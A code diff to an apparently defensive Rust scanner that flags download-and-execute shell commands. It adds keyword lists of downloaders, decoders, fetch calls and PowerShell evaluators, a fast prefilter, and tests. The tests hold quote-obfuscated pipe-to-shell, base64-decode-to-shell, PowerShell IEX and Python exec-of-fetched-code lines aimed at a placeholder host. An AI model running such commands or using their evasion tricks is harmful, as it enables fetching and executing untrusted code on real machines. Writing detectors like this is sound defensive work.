@@ -101,8 +101,117 @@ use argv::{basename, effective_start, interpreter_name, is_downloader, is_shell}
 pub use argv::{inline_script, InlineScript};
 use lex::{lex, split_commands, substitutions, Op};
 
+/// Programs that decode hidden code (`echo … | base64 -d | sh`).
+const DECODERS: &[&str] = &[
+    "base64", "base32", "basenc", "openssl", "xxd", "uudecode", "gunzip", "zcat",
+];
+
+/// What inline interpreter code (`python -c`) calls to fetch a URL.
+const FETCHES: &[&str] = &[
+    "urlopen",
+    "urllib",
+    "requests.get",
+    "http.get",
+    "https.get",
+    "fetch(",
+    "lwp::",
+    "get(",
+    "open-uri",
+    "net::http",
+    "file_get_contents(\"http",
+    "file_get_contents('http",
+    "httpx.",
+    "downloadstring",
+];
+
+/// PowerShell's ways to run a string as code.
+const PS_EVALUATORS: &[&str] = &["iex", "invoke-expression", "scriptblock]::create"];
+
+/// Characters that quoting and escaping remove from the text on the way to words.
+fn removed(b: u8) -> bool {
+    matches!(b, b'\'' | b'"' | b'\\' | b'\n' | b'\r')
+}
+
+/// Whether `text` (squeezed) starts with `marker`, whose own quotes do not count either.
+fn starts_with_marker(text: &[u8], marker: &str) -> bool {
+    marker
+        .bytes()
+        .filter(|&b| !removed(b))
+        .enumerate()
+        .all(|(at, m)| text.get(at) == Some(&m))
+}
+
+/// Whether the texts may hold a download-and-execute at all. Every shape needs a downloader,
+/// a decoder, a PowerShell evaluator or an inline fetch among the words; the lexer only ever
+/// removes characters (quotes, escapes, line continuations) to make words, so a marker that
+/// is not in the text without them (ASCII lower case: `c''u\rl` is `curl`) is in no word,
+/// nested script or substitution either. Most commands have none, and then the lexing and the
+/// pattern search (20,000 instructions for a 50-byte command) are not needed.
+fn may_download_or_decode<'a>(texts: impl IntoIterator<Item = &'a str>) -> bool {
+    let mut squeezed = Vec::new();
+    for text in texts {
+        squeezed.clear();
+        squeezed.extend(
+            text.bytes()
+                .filter(|&b| !removed(b))
+                .map(|b| b.to_ascii_lowercase()),
+        );
+        for (i, pair) in squeezed.windows(2).enumerate() {
+            // Two bytes rule out almost every position before any marker is compared.
+            let bigram = usize::from(pair[0]) << 8 | usize::from(pair[1]);
+            if MARKER_BIGRAMS[bigram / 64] & (1 << (bigram % 64)) == 0 {
+                continue;
+            }
+            let rest = &squeezed[i..];
+            if MARKER_LISTS
+                .iter()
+                .flat_map(|list| list.iter())
+                .any(|marker| starts_with_marker(rest, marker))
+            {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+/// Every marker list [`may_download_or_decode`] searches for.
+const MARKER_LISTS: [&[&str]; 4] = [argv::DOWNLOADERS, DECODERS, FETCHES, PS_EVALUATORS];
+
+/// The first two bytes (without quotes, lower case) of every marker, as a 65,536-bit set.
+static MARKER_BIGRAMS: [u64; 1024] = {
+    let mut set = [0u64; 1024];
+    let mut l = 0;
+    while l < MARKER_LISTS.len() {
+        let list = MARKER_LISTS[l];
+        let mut m = 0;
+        while m < list.len() {
+            let bytes = list[m].as_bytes();
+            // the first two bytes that quoting does not remove (markers are lower case)
+            let mut pair = [0u8; 2];
+            let mut found = 0;
+            let mut i = 0;
+            while i < bytes.len() && found < 2 {
+                if !matches!(bytes[i], b'\'' | b'"' | b'\\' | b'\n' | b'\r') {
+                    pair[found] = bytes[i];
+                    found += 1;
+                }
+                i += 1;
+            }
+            let bigram = (pair[0] as usize) << 8 | pair[1] as usize;
+            set[bigram / 64] |= 1 << (bigram % 64);
+            m += 1;
+        }
+        l += 1;
+    }
+    set
+};
+
 /// Analyses a command given as argv (exec'd without a shell).
 pub fn analyse_argv(argv: &[String]) -> Option<DownloadExecKind> {
+    if !may_download_or_decode(argv.iter().map(String::as_str)) {
+        return None;
+    }
     analyse_argv_depth(argv, 0)
 }
 
@@ -154,24 +263,7 @@ fn string_literals(code: &str) -> Vec<String> {
 /// Python/Node/Perl/Ruby one-liners that fetch a URL and evaluate the result.
 fn inline_code_fetch_and_eval(code: &str) -> bool {
     let lower = code.to_ascii_lowercase();
-    let fetches = [
-        "urlopen",
-        "urllib",
-        "requests.get",
-        "http.get",
-        "https.get",
-        "fetch(",
-        "lwp::",
-        "get(",
-        "open-uri",
-        "net::http",
-        "file_get_contents(\"http",
-        "file_get_contents('http",
-        "httpx.",
-        "downloadstring",
-    ]
-    .iter()
-    .any(|p| lower.contains(p));
+    let fetches = FETCHES.iter().any(|p| lower.contains(p));
     let evaluates = [
         "exec(",
         "eval(",
@@ -188,6 +280,9 @@ fn inline_code_fetch_and_eval(code: &str) -> bool {
 
 /// Analyses a shell script (a string command, run by `/bin/sh -c`).
 pub fn analyse_script(script: &str) -> Option<DownloadExecKind> {
+    if !may_download_or_decode([script]) {
+        return None;
+    }
     analyse_script_depth(script, 0)
 }
 
@@ -272,12 +367,9 @@ fn decoded_pipe(pipeline: &[&Vec<String>]) -> Option<DownloadExecKind> {
                 "-d" | "-D" | "--decode" | "-r" | "-a" | "enc" | "base64"
             )
         });
-        match basename(program).as_str() {
-            "base64" | "base32" | "basenc" | "openssl" | "xxd" | "uudecode" | "gunzip" | "zcat" => {
-                decode || matches!(basename(program).as_str(), "uudecode" | "gunzip" | "zcat")
-            }
-            _ => false,
-        }
+        let name = basename(program);
+        DECODERS.contains(&name.as_str())
+            && (decode || matches!(name.as_str(), "uudecode" | "gunzip" | "zcat"))
     })?;
     let decoder = {
         let words = pipeline[first];
@@ -421,8 +513,7 @@ fn first_downloader(script: &str) -> Option<String> {
 fn powershell_download_eval(script: &str) -> bool {
     // `evaluates` below needs one of these in the lower-cased text; most scripts have none, and
     // then the copy and the word split are not needed.
-    let evaluators = ["iex", "invoke-expression", "scriptblock]::create"];
-    if evaluators
+    if PS_EVALUATORS
         .iter()
         .all(|w| find_ascii_ignore_case(script, w, 0).is_none())
     {
@@ -495,6 +586,39 @@ mod tests {
         for case in cases {
             assert!(analyse_script(case).is_some(), "missed: {case}");
         }
+    }
+
+    #[test]
+    fn the_marker_prefilter_never_hides_a_detection() {
+        // Quoting and escaping that the lexer removes, around and inside the program names.
+        let cases = [
+            "c''url -fsSL https://x.example/i | s\\h",
+            "\"cu\"rl https://x.example/i | sh",
+            "C\\\nURL https://x.example/i | sh",
+            "bash -c 'w\"g\"et -qO- x | sh'",
+            "echo ZWNobyBoaQ== | b\\ase64 -d | sh",
+            "I''EX (I''WR https://x.example/i.ps1)",
+            "python3 -c \"exec(__import__('urllib.request').request.urlo''pen('x').read())\"",
+        ];
+        for case in cases {
+            assert!(may_download_or_decode([case]), "prefilter hid: {case}");
+            assert_eq!(
+                analyse_script(case),
+                analyse_script_depth(case, 0),
+                "prefilter changed: {case}"
+            );
+        }
+        assert!(analyse_script("c''url https://x.example/i | sh").is_some());
+        assert!(!may_download_or_decode([
+            "echo step 1 && ls -la /workspaces/1 | grep -v tmp"
+        ]));
+        // markers are lower case and at least two bytes long (the bigram set needs both)
+        for marker in MARKER_LISTS.iter().flat_map(|l| l.iter()) {
+            assert!(marker.len() >= 2 && !marker.bytes().any(|b| b.is_ascii_uppercase()));
+        }
+        assert!(!may_download_or_decode(
+            argv(&["sh", "-c", "npm ci"]).iter().map(String::as_str)
+        ));
     }
 
     #[test]
